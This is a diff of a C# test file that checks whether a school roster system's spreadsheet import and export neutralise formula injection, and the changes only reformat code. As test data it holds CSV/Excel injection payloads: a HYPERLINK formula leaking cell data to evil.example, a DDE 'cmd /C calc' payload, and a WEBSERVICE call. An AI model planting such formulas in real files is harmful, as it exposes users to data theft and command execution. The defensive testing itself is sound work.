@@ -19,7 +19,10 @@ public sealed class FormulaTests
     /// <summary>With what each looks like in CSV.</summary>
     private static readonly (string Text, string InCsv)[] Attacks =
     [
-        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\""),
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\""
+        ),
         ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
         ("+8613800138000", "'+8613800138000"),
         ("-1", "'-1"),
@@ -43,14 +46,27 @@ public sealed class FormulaTests
         var registrar = await api.RegistrarAsync();
 
         using var response = byClass
-            ? await registrar.SendJsonAsync(HttpMethod.Get, "/api/cohorts/2009/tallies?by=class", null, ("Accept", Workbook))
-            : await registrar.SendJsonAsync(HttpMethod.Post, "/api/cohorts/2009/binding-codes", null, ("Accept", Workbook));
+            ? await registrar.SendJsonAsync(
+                HttpMethod.Get,
+                "/api/cohorts/2009/tallies?by=class",
+                null,
+                ("Accept", Workbook)
+            )
+            : await registrar.SendJsonAsync(
+                HttpMethod.Post,
+                "/api/cohorts/2009/binding-codes",
+                null,
+                ("Accept", Workbook)
+            );
         Assert.Equal(HttpStatusCode.OK, response.StatusCode);
         var bytes = await response.Content.ReadAsByteArrayAsync();
 
         AssertNothingRuns(bytes);
         var texts = TextsOf(bytes);
-        Assert.All(Attacks, attack => Assert.Contains(attack.Text.Replace('\r', '\n'), texts.Select(t => t.Replace('\r', '\n'))));
+        Assert.All(
+            Attacks,
+            attack => Assert.Contains(attack.Text.Replace('\r', '\n'), texts.Select(t => t.Replace('\r', '\n')))
+        );
     }
 
     [Fact]
@@ -130,7 +146,11 @@ public sealed class FormulaTests
         sheet.Cell(3, (int)StudentField.Remark + 1).FormulaA1 = "1+1";
         sheet.Cell(4, (int)StudentField.Name + 1).Hyperlink = new XLHyperlink("http://evil.example/");
         workbook.NamedRanges.Add("evil", "Sheet1!$A$1");
-        sheet.Cell(5, 1).AddConditionalFormat().WhenIsTrue("WEBSERVICE(\"http://evil.example/\")").Fill.SetBackgroundColor(XLColor.Red);
+        sheet
+            .Cell(5, 1)
+            .AddConditionalFormat()
+            .WhenIsTrue("WEBSERVICE(\"http://evil.example/\")")
+            .Fill.SetBackgroundColor(XLColor.Red);
         using var upload = new MemoryStream();
         workbook.SaveAs(upload, new ClosedXML.Excel.SaveOptions { EvaluateFormulasBeforeSaving = true });
         var preview = await registrar.PreviewAsync(new RosterFile("名单.xlsx", upload.ToArray()));
@@ -166,13 +186,20 @@ public sealed class FormulaTests
     private static void AssertNothingRuns(byte[] bytes)
     {
         using var archive = new ZipArchive(new MemoryStream(bytes));
-        foreach (var part in archive.Entries.Where(e => e.Name.EndsWith(".xml", StringComparison.Ordinal) || e.Name.EndsWith(".rels", StringComparison.Ordinal)))
+        foreach (
+            var part in archive.Entries.Where(e =>
+                e.Name.EndsWith(".xml", StringComparison.Ordinal) || e.Name.EndsWith(".rels", StringComparison.Ordinal)
+            )
+        )
         {
             using var stream = part.Open();
             var xml = XDocument.Load(stream);
             foreach (var element in xml.Descendants())
             {
-                Assert.False(element.Name.LocalName is "f" or "hyperlink" or "ddeLink" or "definedName" or "cfRule", $"{part.FullName}: {element}");
+                Assert.False(
+                    element.Name.LocalName is "f" or "hyperlink" or "ddeLink" or "definedName" or "cfRule",
+                    $"{part.FullName}: {element}"
+                );
                 Assert.NotEqual("External", element.Attribute("TargetMode")?.Value);
             }
         }
